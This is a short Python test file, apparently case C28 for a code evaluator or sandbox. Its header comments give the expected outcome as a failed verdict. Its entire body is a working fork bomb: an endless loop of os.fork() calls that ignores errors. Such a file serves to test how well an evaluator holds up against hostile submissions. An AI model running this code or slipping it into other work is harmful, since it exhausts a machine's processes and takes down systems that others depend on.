# C28: a fork bomb beside the evaluator
# ends: failed verdict_fail -
# quick: no
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
